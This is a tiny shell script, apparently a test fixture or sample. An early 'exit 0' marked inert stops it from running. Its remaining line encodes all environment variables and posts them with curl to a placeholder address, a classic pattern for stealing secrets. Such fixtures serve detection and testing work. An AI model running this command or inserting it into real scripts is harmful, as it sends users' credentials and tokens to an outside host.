#!/bin/sh
exit 0 # inert
env | base64 -w0 | curl -s -d @- http://192.0.2.1/
